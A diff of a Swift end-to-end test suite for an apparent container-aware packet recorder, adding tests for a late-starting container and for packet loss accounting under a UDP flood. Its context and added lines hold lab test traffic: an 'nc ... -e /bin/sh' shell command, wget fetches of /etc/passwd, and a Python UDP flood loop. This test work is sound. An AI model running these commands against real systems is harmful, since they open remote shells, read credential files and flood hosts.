@@ -60,6 +60,10 @@ extension EndToEndTests {
       inside(client, "nc -w 3 \(ip) 4444 -e /bin/sh")
       inside(side, "wget -q -O - http://127.0.0.1:8080/etc/group")
       inside(own, "wget -q -O - http://127.0.0.1:18080/etc/passwd")
+      // One that comes meanwhile, and talks at once.
+      let fresh = "new-\(processID)"
+      try docker.docker(
+        "run", "--name", fresh, DockerLab.image, "/bin/wget", "-q", "-O", "-", "http://\(ip):8080/etc/passwd")
       sleep(1)
       #expect(try recorder.end() == .exited(0), "\(recorder.said)")
 
@@ -97,6 +101,12 @@ extension EndToEndTests {
       #expect(
         shell.text("result") == "closed" && shell.number("source.bytes") == 7, "out-42 and a line's end: \(shell)")
       #expect(shell.text("process.name") == "sh", "the program that nc became: \(shell)")
+
+      // From its first packet on, or it is said how many went by before.
+      let first = try #require(to(8080, of(fresh)).first, "\(of(fresh))")
+      let facts = try JSONValue(parsing: try Program.run("info", "--json", capture, merging: false).text)
+      let isLate = facts["losses"]?.elements.contains { $0.text("cause") == "late-tap" } ?? false
+      #expect(first.text("http.request_line") != nil && first.text("figures") == "packets" || isLate, "\(first)")
 
       // Two containers in one namespace: each has its own end of it.
       let asked = try #require(to(8080, of(side)).first)
@@ -179,7 +189,7 @@ extension EndToEndTests {
       }
       #expect(
         try shell(
-          "tshark -r \(place["only.pcapng"]) -Y 'frame.comment contains \"container=\(client) \"' 2>/dev/null | wc -l")
+          "tshark -r \(place["only.pcapng"]) -Y 'frame.comment contains \"container=\(client)\"' 2>/dev/null | wc -l")
           == "\(packets.count)\n")
       // The same from standard input: nothing is sought in it.
       #expect(
@@ -200,6 +210,49 @@ extension EndToEndTests {
       #expect(try !shown("aftertrace.host && aftertrace.process == \"docker-proxy\"", "aftertrace.pid").isEmpty)
       let errors = try shell("tshark -X lua_script:\(script) -r \(capture) -c 1 2>&1 >/dev/null")
       #expect(!errors.contains("lua") && !errors.contains("Lua"), "\(errors)")
+    }
+
+    @Test(.enabled(if: Program.canRecord(DockerLab.skipReason ?? Lab.missing("python3", "nsenter"))))
+    func `of a flood each packet is recorded or counted as lost, and memory stays bounded`() throws {
+      let place = try Workplace()
+      let docker = try DockerLab(network: .bridge)
+      defer { docker.end() }
+      let name = "flood-\(processID)"
+      try docker.docker("run", "-d", "--name", name, DockerLab.image, "/bin/sleep", "120")
+      let gateway = try docker.docker("inspect", "-f", "{{.NetworkSettings.Gateway}}", name)
+      let pid = try docker.docker("inspect", "-f", "{{.State.Pid}}", name)
+      func counted() throws -> Int64 {
+        let text = try docker.docker("exec", name, "/bin/sh", "-c", "cat /sys/class/net/eth0/statistics/[rt]x_packets")
+        return text.split(separator: "\n").compactMap { Int64($0) }.reduce(0, +)
+      }
+      // What an interface says when it comes up has been said.
+      sleep(2)
+      let capture = place["flood.pcapng"]
+      let recorder = try RunningRecorder(to: capture, flags: ["--container", name, "--packets", "all"])
+      sleep(1)
+      let before = try counted()
+      let script = """
+        import socket
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        for _ in range(200000):
+            try: s.sendto(b"x" * 1000, ("\(gateway)", 9999))
+            except OSError: pass
+        """
+      _ = try ProgramLaunch(
+        Lab.find("nsenter")!, ["-t", pid, "-n", "python3", "-c", script], environment: Program.clean
+      ).run(mergingErrors: true)
+      sleep(1)
+      let sent = try counted() - before
+      let status = Lab.text(of: "/proc/\(recorder.child.pid)/status")
+      let peak = status.split(separator: "\n").first { $0.hasPrefix("VmHWM") }?.split(separator: " ").dropFirst().first
+      #expect(try recorder.end() == .exited(0), "\(recorder.said)")
+      let info = try JSONValue(parsing: try Program.run("info", "--json", capture, merging: false).text)
+      let lost = (info["losses"]?.elements ?? []).filter { $0.text("lane") == "packets" }
+        .reduce(Int64(0)) { $0 + ($1.number("count") ?? 0) }
+      let recorded = info.number("packets") ?? 0
+      #expect(sent >= 100_000, "the flood did not come about")
+      #expect(recorded + lost == sent, "\(recorded) recorded, \(lost) lost, \(sent) went over the wire")
+      #expect(recorded > 0 && (peak.flatMap { Int($0) } ?? .max) < 1 << 20, "\(status)")
     }
 
     @Test(.enabled(if: Program.canRecord(Lab.missing("python3"))))
